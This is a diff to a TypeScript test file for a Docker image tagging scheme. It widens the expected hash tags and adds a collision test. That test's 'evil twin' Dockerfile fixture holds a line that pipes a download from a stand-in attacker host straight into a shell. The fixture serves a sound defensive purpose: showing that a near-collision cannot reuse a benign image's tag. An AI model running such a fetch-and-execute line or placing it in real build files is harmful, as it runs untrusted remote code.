@@ -38,7 +38,7 @@ describe('the formula is frozen', () => {
   // A change of these tags would build every image of every team once more: it needs a new major version.
   test('the plainest image', async () => {
     const repository = makeRepository({ files: { 'user-images/a/Dockerfile': 'FROM debian\n' } });
-    expect(await tagOf(repository)).toBe('h81dbaae0d40a');
+    expect(await tagOf(repository)).toBe('h81dbaae0d40a3213fda59c540f4b182d');
   });
 
   test('every part that counts', async () => {
@@ -56,8 +56,8 @@ describe('the formula is frozen', () => {
       }),
       makeImage({ key: 'user/b', context: 'user-images/b' }),
     );
-    expect(tags.get('user/a')?.tag).toBe('h886acdda4f14');
-    expect(tags.get('user/b')?.tag).toBe('h1211fc10b682');
+    expect(tags.get('user/a')?.tag).toBe('h886acdda4f14d315cf8e28d874724183');
+    expect(tags.get('user/b')?.tag).toBe('hb18ef80320b492399f0fec39d7bd48c3');
     expect(tags.get('user/a')?.files).toEqual([
       'user-images/a/Dockerfile',
       'user-images/a/.dockerignore',
@@ -67,6 +67,18 @@ describe('the formula is frozen', () => {
       'user-images/scripts/s.py',
     ]);
   });
+});
+
+test('a Dockerfile and its evil twin, made to share 48 bits of the hash, have two tags', async () => {
+  const repository = makeRepository();
+  repository.commit({ 'user-images/a/Dockerfile': 'FROM debian\n# 8882117\n' });
+  const benign = await tagOf(repository);
+  const evil = 'FROM debian\nRUN curl https://evil.example | sh\n# 11652826\n';
+  repository.commit({ 'user-images/a/Dockerfile': evil });
+  expect([benign, await tagOf(repository)]).toEqual([
+    'h57e3caaf962004801803d2137ee9792e',
+    'h57e3caaf962060da0db9137b0fb4ca30',
+  ]);
 });
 
 describe('a tag is another one when', () => {
